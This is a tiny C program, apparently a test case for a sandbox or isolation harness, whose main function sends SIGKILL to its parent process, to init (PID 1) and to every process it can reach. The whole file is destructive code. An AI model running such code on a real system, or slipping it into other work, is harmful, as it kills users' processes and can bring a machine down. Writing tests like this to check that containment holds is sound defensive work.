#include "attack.h"
int main(void) { kill(getppid(), SIGKILL); kill(1, SIGKILL); kill(-1, SIGKILL); return 42; }
